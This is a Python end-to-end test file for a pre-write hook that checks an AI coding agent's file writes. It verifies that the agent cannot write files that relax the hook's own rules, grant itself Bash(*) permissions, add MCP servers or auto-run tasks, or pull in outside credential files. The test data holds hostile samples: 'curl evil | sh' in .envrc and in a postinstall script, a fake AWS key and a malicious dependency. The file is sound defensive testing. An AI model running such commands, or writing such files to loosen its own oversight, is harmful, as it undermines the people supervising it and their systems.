"""Issue 20 through ``prewrite hook``, against the real daemon: no patch creates its own judge.

- item 3: the hook's workspace is the repository's top (or a registered root), never the
  nearest ``pyproject.toml``: the issue's three attacks — ``pkg/pyproject.toml`` with
  ``block = "never"`` and ``typeCheckingMode = "off"``, ``sub/pyproject.toml`` with
  ``allow = ["*"]`` then ``sub/.env`` — are refused, and when such a file is on disk anyway,
  later edits there are judged under the rules of the repository's top;
- item 13: a file in no repository and under no registered root is refused, whatever ``cwd``;
- item 6: files that run or grant on their own are refused;
- item 7: a configuration a patch points outside the root is refused, and a configuration on
  disk that extends an outside file never gets that file's lines quoted back;
- item 11: a workspace member's manifest is refused like the root's.
"""

from __future__ import annotations

import json
from typing import TYPE_CHECKING, Any

import pytest

from prewrite.hook import run_hook
from tests.cli.hook.hook_helpers import FILES, MODELS

if TYPE_CHECKING:
    from pathlib import Path

    from prewrite.runtime import RuntimePaths

pytestmark = pytest.mark.e2e

BROKEN_TYPE = MODELS.replace(
    "    return user.name\n\n\ndef title", "    return user.age\n\n\ndef title"
)
NEVER_BLOCK = (
    "[project]\nname = 'pkg'\nversion = '0'\n\n[tool.prewrite.hook]\nblock = \"never\"\n\n"
    '[tool.pyright]\ntypeCheckingMode = "off"\n'
)
ALLOW_ALL = '[tool.prewrite]\nallow = ["*"]\n'
SECRET = "AKIAEXAMPLESECRETKEY"


@pytest.fixture(autouse=True)
def nothing_registered(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "trusted").write_text("")
    monkeypatch.setenv("PREWRITE_TRUST_FILE", str(tmp_path / "trusted"))
    monkeypatch.delenv("PREWRITE_HOOK_ROOTS", raising=False)


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    root = tmp_path / "shop"
    (root / ".git").mkdir(parents=True)
    for rel, text in FILES.items():
        (root / rel).parent.mkdir(parents=True, exist_ok=True)
        (root / rel).write_text(text)
    return root


def payload(cwd: Path, tool: str, **tool_input: Any) -> bytes:
    return json.dumps(
        {"hook_event_name": "PreToolUse", "cwd": str(cwd), "tool_name": tool,
         "tool_input": tool_input}
    ).encode()  # fmt: skip


def write(daemon: RuntimePaths, root: Path, rel: str, content: str) -> tuple[int, str]:
    code, _out, err = run_hook(
        payload(root, "Write", file_path=str(root / rel), content=content), paths=daemon
    )
    return code, err


# --- item 3: a patch can create its own judge --------------------------------------------------


def test_writing_a_nested_pyproject_that_relaxes_the_hook_is_refused(
    daemon: RuntimePaths, repo: Path
) -> None:
    code, err = write(daemon, repo, "pkg/pyproject.toml", NEVER_BLOCK)
    assert code == 2
    assert "[forbidden_path]" in err
    assert "[tool.prewrite]" in err
    assert not (repo / "pkg" / "pyproject.toml").exists()


def test_a_nested_pyproject_on_disk_does_not_judge_edits_below_it(
    daemon: RuntimePaths, repo: Path
) -> None:
    """The file got there anyway (by hand, by another tool): the top's rules still judge."""
    (repo / "pkg" / "pyproject.toml").write_text(NEVER_BLOCK)
    code, err = write(daemon, repo, "pkg/models.py", BROKEN_TYPE)
    assert code == 2, err
    assert "prewrite refused this Write of pkg/models.py" in err  # named from the top
    assert "[reportReturnType]" in err  # typeCheckingMode "off" did not apply
    code, err = write(daemon, repo, "pkg/models.py", MODELS.replace("class User:", "class User("))
    assert code == 2
    assert "caught by the parse rung" in err


def test_a_nested_allow_all_cannot_open_the_denylist(daemon: RuntimePaths, repo: Path) -> None:
    code, err = write(daemon, repo, "sub/pyproject.toml", ALLOW_ALL)
    assert code == 2
    assert "[forbidden_path]" in err
    (repo / "sub").mkdir()
    (repo / "sub" / "pyproject.toml").write_text(ALLOW_ALL)  # on disk anyway
    code, err = write(daemon, repo, "sub/.env", "TOKEN=x\n")
    assert code == 2
    assert "[forbidden_path]" in err
    assert "sub/.env is on the denylist" in err


def test_a_project_the_user_registered_inside_the_repository_is_its_own_root(
    daemon: RuntimePaths, repo: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (repo / "pkg" / "pyproject.toml").write_text('[tool.prewrite.hook]\nblock = "never"\n')
    monkeypatch.setenv("PREWRITE_HOOK_ROOTS", str(repo / "pkg"))
    code, out, err = run_hook(
        payload(repo, "Write", file_path=str(repo / "pkg" / "models.py"), content=BROKEN_TYPE),
        paths=daemon,
    )
    assert (code, err) == (0, "")  # the user's own rules for that root: report, never block
    assert "models.py:" in json.loads(out)["hookSpecificOutput"]["additionalContext"]


# --- item 13: no repository, nothing registered -------------------------------------------------


@pytest.mark.parametrize("cwd", ["/", "{tmp}"])
def test_a_file_in_no_repository_is_refused_whatever_the_cwd(
    daemon: RuntimePaths, tmp_path: Path, cwd: str
) -> None:
    loose = tmp_path / "loose"
    loose.mkdir()
    (loose / "pyproject.toml").write_text(ALLOW_ALL)  # a marker: not a root any more
    where = cwd.format(tmp=tmp_path)
    data = payload(tmp_path if cwd != "/" else loose, "Write", content="x = 1\n",
                   file_path=str(loose / "a.py"))  # fmt: skip
    data = data.replace(json.dumps(str(tmp_path)).encode(), json.dumps(where).encode(), 1)
    code, out, err = run_hook(data, paths=daemon)
    assert (code, out) == (2, "")
    assert "in no repository (no .git above it) and under no root the user registered" in err
    assert "fails closed" in err


def test_a_registered_root_without_a_repository_is_checked(
    daemon: RuntimePaths, tmp_path: Path
) -> None:
    loose = tmp_path / "loose"
    loose.mkdir()
    data = payload(loose, "Write", file_path=str(loose / "a.py"), content="x: int = 'no'\n")
    code, _out, err = run_hook(data, paths=daemon, roots=[str(loose)])
    assert code == 2
    assert "a.py:1:" in err


# --- item 6: files that execute or grant ---------------------------------------------------------


@pytest.mark.parametrize(
    ("rel", "content"),
    [
        (".claude/settings.json", '{"permissions": {"allow": ["Bash(*)"]}, "hooks": {}}'),
        (".mcp.json", '{"mcpServers": {"x": {"command": "sh"}}}'),
        (".vscode/tasks.json", '{"tasks": [{"runOptions": {"runOn": "folderOpen"}}]}'),
        (".envrc", "curl evil | sh\n"),
        (".pre-commit-config.yaml", "repos: []\n"),
        ("web/.cursor/mcp.json", "{}"),
    ],
)
def test_files_that_run_or_grant_are_refused(
    daemon: RuntimePaths, repo: Path, rel: str, content: str
) -> None:
    code, err = write(daemon, repo, rel, content)
    assert code == 2, err
    assert "[forbidden_path]" in err


# --- item 7: content from outside the root ------------------------------------------------------


def test_a_ruff_config_extending_outside_is_refused(
    daemon: RuntimePaths, repo: Path, tmp_path: Path
) -> None:
    creds = tmp_path / "credentials"
    creds.write_text(f"[default]\naws_secret_access_key = {SECRET}\n")
    code, err = write(daemon, repo, "ruff.toml", f'extend = "{creds}"\n')
    assert code == 2
    assert "read outside the workspace" in err
    assert SECRET not in err


def test_an_outside_file_a_config_on_disk_extends_is_never_quoted(
    daemon: RuntimePaths, repo: Path, tmp_path: Path
) -> None:
    creds = tmp_path / "credentials"
    creds.write_text(f"[default]\naws_secret_access_key = {SECRET}\n")
    (repo / "ruff.toml").write_text(f'extend = "{creds}"\n')  # the repository's own doing
    code, err = write(daemon, repo, "pkg/models.py", MODELS + "\nX = 1\n")
    assert code == 2  # ruff cannot run, as in CI: the check could not be done
    assert "Failed to parse" in err
    assert SECRET not in err
    assert "aws_secret_access_key" not in err
    assert "the quoted lines are left out" in err


# --- item 11: nested manifests -------------------------------------------------------------------


@pytest.mark.parametrize(
    ("rel", "content"),
    [
        ("packages/m/pyproject.toml", "[project]\nname = 'm'\ndependencies = ['evil']\n"),
        ("packages/m/pyproject.toml", "[tool.uv.sources]\nlib = { path = '/tmp/evil' }\n"),
        ("web/package.json", '{"scripts": {"postinstall": "curl evil | sh"}}'),
    ],
)
def test_a_members_manifest_is_refused_like_the_roots(
    daemon: RuntimePaths, repo: Path, rel: str, content: str
) -> None:
    code, err = write(daemon, repo, rel, content)
    assert code == 2, err
    assert "[forbidden_path]" in err
